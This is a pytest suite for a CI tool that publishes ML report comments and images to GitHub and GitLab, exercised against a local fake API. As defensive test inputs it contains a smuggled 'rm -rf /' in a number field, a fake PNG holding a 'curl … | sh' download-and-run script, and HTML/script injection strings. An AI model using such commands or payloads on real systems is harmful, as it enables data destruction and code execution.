"""The native publisher against a local fake of the GitHub and GitLab APIs."""

from __future__ import annotations

import json
import struct
import threading
import zlib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from ci import publish

from .fake_api import ACTIONS_BOT, OTHER_FILE, TOKEN, State, serve


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2, extra: bytes = b"") -> bytes:
    """A real greyscale PNG; ``extra`` goes into a text chunk to make it heavier."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"".join(b"\0" + b"\x80" * width for _ in range(min(height, 64))))
    text = chunk(b"tEXt", b"Comment\0" + extra) if extra else b""
    return (
        publish.PNG_SIGNATURE
        + chunk(b"IHDR", header)
        + text
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


PNG = png()


@pytest.fixture
def api() -> Iterator[tuple[str, State]]:
    with serve() as running:
        yield running


@pytest.fixture
def report(tmp_path: Path) -> Path:
    (tmp_path / "roc.png").write_bytes(PNG)
    (tmp_path / "cm_head.png").write_bytes(PNG)
    path = tmp_path / "report.md"
    path.write_text(f"{publish.MARKER}\n## Report\n![roc](roc.png)\n![cm](cm_head.png)\n")
    return path


def github_env(monkeypatch: pytest.MonkeyPatch, url: str, token: str = TOKEN) -> None:
    monkeypatch.setenv("GITHUB_API_URL", url)
    monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.example")
    monkeypatch.setenv("GITHUB_REPOSITORY", "acme/model")
    monkeypatch.setenv("GITHUB_TOKEN", token)
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)


def gitlab_env(monkeypatch: pytest.MonkeyPatch, url: str, token: str = TOKEN) -> None:
    monkeypatch.setenv("CI_API_V4_URL", url)
    monkeypatch.setenv("CI_PROJECT_ID", "42")
    monkeypatch.setenv("ML_REPORT_TOKEN", token)


def test_github_creates_one_comment_then_updates_it(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    url, state = api
    github_env(monkeypatch, url)
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    arguments = ["--provider", "github", "--number", "7", "--report", str(report)]
    assert publish.main([*arguments, "--head-sha", state.head_sha]) == 0
    assert len(state.comments) == 1
    first = state.comments[0]["body"]
    assert "](https://github.example/acme/model/blob/" in first
    assert "/pr-7/roc.png?raw=true)" in first
    assert "ml-reports" in state.refs

    report.write_text(
        report.read_text(encoding="utf-8").replace("## Report", "## Report, second push"),
        encoding="utf-8",
    )
    assert publish.main(arguments) == 0
    assert len(state.comments) == 1
    assert "second push" in state.comments[0]["body"]
    assert "second push" in summary.read_text()


def test_github_skips_a_pull_request_that_moved_on(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, state = api
    github_env(monkeypatch, url)
    arguments = ["--provider", "github", "--number", "7", "--report", str(report)]
    assert publish.main([*arguments, "--head-sha", "b" * 40]) == 0
    assert "has moved on" in capsys.readouterr().out
    assert state.comments == []


def test_pull_request_file_is_checked_against_the_run(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys
) -> None:
    url, state = api
    github_env(monkeypatch, url)
    recorded = tmp_path / "pull-request.json"
    recorded.write_text(json.dumps({"number": 7, "head_sha": state.head_sha}))
    arguments = ["--provider", "github", "--pull-request-file", str(recorded)]
    assert publish.main([*arguments, "--head-sha", state.head_sha, "--print-number"]) == 0
    assert capsys.readouterr().out.strip() == "7"
    assert publish.main([*arguments, "--head-sha", "c" * 40, "--report", str(report)]) == 1
    assert "not publishing" in capsys.readouterr().err
    recorded.write_text('{"number": "7; rm -rf /", "head_sha": "x"}')
    assert publish.main([*arguments, "--print-number"]) == 1
    assert "must hold a pull request number" in capsys.readouterr().err
    assert publish.main([*arguments, "--head-sha", state.head_sha, "--report", str(report)]) == 1
    assert state.comments == []


def test_gitlab_creates_one_note_then_updates_it(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, state = api
    gitlab_env(monkeypatch, url)
    arguments = ["--provider", "gitlab", "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 0
    assert publish.main(arguments) == 0
    assert len(state.comments) == 1
    assert "](/uploads/" in state.comments[0]["body"]
    assert len(state.uploads) == 4


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_rejected_token_is_named(
    provider: str, api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, _ = api
    (github_env if provider == "github" else gitlab_env)(monkeypatch, url, "wrong-token")
    arguments = ["--provider", provider, "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 1
    name = "GITHUB_TOKEN" if provider == "github" else "ML_REPORT_TOKEN"
    assert f"HTTP 401: {name} is missing, expired or revoked" in capsys.readouterr().err


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_missing_scope_is_named(
    provider: str, api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, state = api
    state.forbidden = True
    (github_env if provider == "github" else gitlab_env)(monkeypatch, url)
    arguments = ["--provider", provider, "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 1
    error = capsys.readouterr().err
    assert "HTTP 403" in error
    assert "lacks a permission; it needs" in error


def test_unknown_repository_is_explained(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, _ = api
    github_env(monkeypatch, url)
    monkeypatch.setenv("GITHUB_REPOSITORY", "acme/other")
    arguments = ["--provider", "github", "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 1
    assert "HTTP 404: not found" in capsys.readouterr().err


@pytest.mark.parametrize("variable", ["GITHUB_TOKEN", "ML_REPORT_TOKEN"])
def test_missing_token_says_how_to_provide_it(
    variable: str, report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    monkeypatch.delenv(variable, raising=False)
    provider = "github" if variable == "GITHUB_TOKEN" else "gitlab"
    assert publish.main(["--provider", provider, "--number", "7", "--report", str(report)]) == 1
    assert f"{variable} is not set" in capsys.readouterr().err


def planted(state: State, user: dict[str, object]) -> dict[str, object]:
    """A comment carrying the marker, written by someone else; it must stay untouched."""
    comment = {"id": 900, "body": f"{publish.MARKER}\nplanted", "user": user, "author": user}
    state.comments.append(comment)
    return comment


@pytest.mark.parametrize(
    ("provider", "token_user", "writer"),
    [
        ("github", None, {"login": "mallory", "id": 666, "type": "User"}),
        ("github", {"login": "ml-bot", "id": 7001, "type": "User"}, ACTIONS_BOT),
        ("github", {"login": "ml-bot", "id": 7001, "type": "User"}, {"login": "x", "id": 6}),
        ("gitlab", None, {"id": 666, "username": "mallory"}),
    ],
)
def test_a_marker_planted_by_someone_else_is_never_edited(
    provider: str,
    token_user: dict[str, object] | None,
    writer: dict[str, object],
    api: tuple[str, State],
    report: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    url, state = api
    state.github_user = token_user
    (github_env if provider == "github" else gitlab_env)(monkeypatch, url)
    foreign = planted(state, writer)
    arguments = ["--provider", provider, "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 0
    assert publish.main(arguments) == 0
    assert foreign["body"] == f"{publish.MARKER}\nplanted"
    own = [comment for comment in state.comments if comment is not foreign]
    assert len(own) == 1
    assert "## Report" in own[0]["body"]


def test_a_user_token_edits_its_own_comment(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, state = api
    state.github_user = {"login": "ml-bot", "id": 7001, "type": "User"}
    github_env(monkeypatch, url)
    arguments = ["--provider", "github", "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 0
    assert publish.main(arguments) == 0
    assert [comment["user"]["id"] for comment in state.comments] == [7001]


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_the_token_never_follows_a_redirect_to_another_origin(
    provider: str, api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, state = api
    with serve() as (elsewhere, other):
        state.redirect_to = elsewhere
        (github_env if provider == "github" else gitlab_env)(monkeypatch, url)
        arguments = ["--provider", provider, "--number", "7", "--report", str(report)]
        assert publish.main(arguments) == 1
    sent = {name.lower() for headers in other.headers for name in headers}
    assert not sent & {"authorization", "private-token"}
    assert other.requests == []
    assert "another origin: refused" in capsys.readouterr().err


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_an_answer_that_is_not_json_is_one_line(
    provider: str, api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, state = api
    state.html = True
    (github_env if provider == "github" else gitlab_env)(monkeypatch, url)
    arguments = ["--provider", provider, "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 1
    error = capsys.readouterr().err
    assert error.count("\n") == 1
    assert f"{url}/" in error
    assert "text/html" in error
    assert "not JSON" in error


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_text_from_the_pull_request_cannot_mention_or_inject_html(
    provider: str, api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, state = api
    (github_env if provider == "github" else gitlab_env)(monkeypatch, url)
    report.write_text(
        f"{publish.MARKER}\n## Report for @team and @acme/reviewers\n\n"
        "| param | base | head |\n|---|---|---|\n"
        "| model.name | a | <img src=x onerror=alert(1)> |\n"
        f"\n![roc](roc.png)\n<!-- hidden -->\n{publish.MARKER}\n/merge\n  /approve\n"
        "&#64;everyone <script>x</script> \u202eevil\n",
        encoding="utf-8",
    )
    arguments = ["--provider", provider, "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 0
    body = state.comments[0]["body"]
    assert body.startswith(f"{publish.MARKER}\n## Report")
    assert body.count(publish.MARKER) == 1
    assert "<" not in body.replace(publish.MARKER, "")
    assert "&lt;img src=x onerror=alert(1)&gt;" in body
    assert "&amp;#64;everyone" in body
    assert "@team" not in body
    assert "@acme" not in body
    assert "@\u200dteam" in body
    assert "\n/merge" not in body
    assert "\n  /approve" not in body
    assert "\u202e" not in body
    assert "| param | base | head |\n|---|---|---|\n| model.name | a |" in body
    assert "![roc](" in body
    assert "![roc](roc.png)" not in body


def test_only_real_pngs_under_the_caps_are_published(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, state = api
    github_env(monkeypatch, url)
    directory = report.parent
    bad = {
        "zeros.png": publish.PNG_SIGNATURE + b"\0" * 64,
        "script.png": b"#!/bin/sh\ncurl https://example.invalid | sh\n",
        "huge.png": png(100_000, 1),
        "trailing.png": PNG + b"PK\x03\x04 a zip archive",
        "heavy.png": png(extra=b"x" * (publish.MAX_IMAGE_BYTES + 1)),
        "broken.png": PNG[:-1] + bytes([PNG[-1] ^ 1]),
    }
    for name, data in bad.items():
        (directory / name).write_bytes(data)
    (directory / "link.png").symlink_to(directory / "roc.png")
    names = [*bad, "link.png"]
    report.write_text(
        f"{publish.MARKER}\n![roc](roc.png)\n" + "".join(f"![{n}]({n})\n" for n in names),
        encoding="utf-8",
    )
    arguments = ["--provider", "github", "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 0
    assert state.committed() == {"pr-7/roc.png": PNG}
    error = capsys.readouterr().err
    body = state.comments[0]["body"]
    for name in names:
        assert f"publish: {name} not published: " in error
        assert f"*{name}: not published (" in body
    assert "/pr-7/roc.png?raw=true)" in body


def test_image_count_and_total_size_are_capped(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, state = api
    gitlab_env(monkeypatch, url)
    monkeypatch.setattr(publish, "MAX_IMAGES", 3)
    monkeypatch.setattr(publish, "MAX_TOTAL_BYTES", 3 * len(PNG) + 100)
    heavy = png(extra=b"x" * 200)
    names = ["a.png", "b.png", "c.png", "d.png", "e.png"]
    for name in names[:2]:
        (report.parent / name).write_bytes(PNG)
    for name in names[2:]:
        (report.parent / name).write_bytes(heavy)
    report.write_text("".join(f"![{name}]({name})\n" for name in names), encoding="utf-8")
    arguments = ["--provider", "gitlab", "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 0
    error = capsys.readouterr().err
    assert len(state.uploads) == 2
    assert "publish: c.png not published: the images would weigh over" in error
    assert "publish: d.png not published: the images would weigh over" in error
    (report.parent / "c.png").write_bytes(PNG)
    (report.parent / "d.png").write_bytes(PNG)
    assert publish.main(arguments) == 0
    assert "publish: e.png not published: the report already has 3 images" in (
        capsys.readouterr().err
    )


@pytest.mark.parametrize("existing", [True, False], ids=["branch-exists", "first-image"])
def test_a_concurrent_update_of_the_reports_branch_is_retried(
    existing: bool, api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, state = api
    github_env(monkeypatch, url)
    arguments = ["--provider", "github", "--number", "7", "--report", str(report)]
    if existing:
        assert publish.main(arguments) == 0
    before = len(state.history())
    state.ref_races = 2
    assert publish.main(arguments) == 0
    files = state.committed()
    assert OTHER_FILE in files
    assert files["pr-7/roc.png"] == PNG
    assert len(state.history()) == before + 3
    assert state.ref_races == 0


def test_a_branch_that_keeps_moving_fails_with_advice(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, state = api
    github_env(monkeypatch, url)
    state.ref_races = publish.REF_ATTEMPTS
    arguments = ["--provider", "github", "--number", "7", "--report", str(report)]
    assert publish.main(arguments) == 1
    assert "run the job again" in capsys.readouterr().err
    assert state.comments == []


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_two_overlapping_runs_leave_one_comment(
    provider: str, api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, state = api
    (github_env if provider == "github" else gitlab_env)(monkeypatch, url)
    together = threading.Barrier(2, timeout=10)
    listed = iter(range(2))

    def list_at_once(method: str, path: str) -> None:
        """Both runs list the comments before either creates one."""
        listing = method == "GET" and path.split("?")[0].endswith(("/comments", "/notes"))
        if listing and next(listed, None) is not None:
            together.wait()

    state.before = list_at_once

    def run(_: int) -> str:
        return publish.publish(publish.provider_from_env(provider), 7, report)[0]

    with ThreadPoolExecutor(2) as pool:
        outcomes = sorted(pool.map(run, range(2)))
    assert outcomes == ["created", "updated"]
    assert len(state.comments) == 1
    assert "## Report" in state.comments[0]["body"]


def test_gitlab_skips_a_merge_request_that_moved_on(
    api: tuple[str, State], report: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    url, state = api
    gitlab_env(monkeypatch, url)
    arguments = ["--provider", "gitlab", "--number", "7", "--report", str(report)]
    assert publish.main([*arguments, "--head-sha", "b" * 40]) == 0
    assert "has moved on" in capsys.readouterr().out
    assert state.comments == []
    assert publish.main([*arguments, "--head-sha", state.head_sha]) == 0
    assert len(state.comments) == 1


def test_github_drift_issue_is_opened_then_commented_on(
    api: tuple[str, State], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys
) -> None:
    """`--issue TITLE` opens one issue with the report, then comments on it while it is open:
    never on a closed issue, a pull request, another title or an issue someone else opened.
    Images are left to the run's artifact, which the issue links to; mentions are made inert."""
    url, state = api
    github_env(monkeypatch, url)
    monkeypatch.setenv("GITHUB_RUN_ID", "99")
    title = "Input drift detected by the monitor workflow"
    state.issues += [
        {"number": 101, "title": title, "state": "closed", "body": "", "comments": []},
        {"number": 102, "title": title, "state": "open", "body": "", "comments": [],
         "pull_request": {"url": "..."}},
        {"number": 103, "title": "Other", "state": "open", "body": "", "comments": []},
        {"number": 104, "title": title, "state": "open", "body": "planted", "comments": [],
         "user": {"login": "mallory", "id": 7, "type": "User"}},
    ]  # fmt: skip
    report = tmp_path / "drift.md"
    report.write_text("# Drift\n\n![drift](drift.png)\n| feature | p |\n@team look\n")
    arguments = ["--provider", "github", "--issue", title, "--report", str(report)]

    assert publish.main(arguments) == 0
    opened = [i for i in state.issues if i["number"] < 100]
    assert [i["title"] for i in opened] == [title]
    body = opened[0]["body"]
    assert "drift.png" not in body and "| feature | p |" in body
    assert "@team" not in body, "a mention in the report notifies no one"
    assert "(https://github.example/acme/model/actions/runs/99)" in body
    assert f"opened issue #{opened[0]['number']}" in capsys.readouterr().out

    assert publish.main(arguments) == 0
    assert len(state.issues) == 5, "the open issue is reused"
    assert opened[0]["comments"] == [body]
    assert f"commented on issue #{opened[0]['number']}" in capsys.readouterr().out
    assert all(not i["comments"] for i in state.issues if i is not opened[0])

    assert publish.main(["--provider", "gitlab", "--issue", title, "--report", str(report)]) == 2
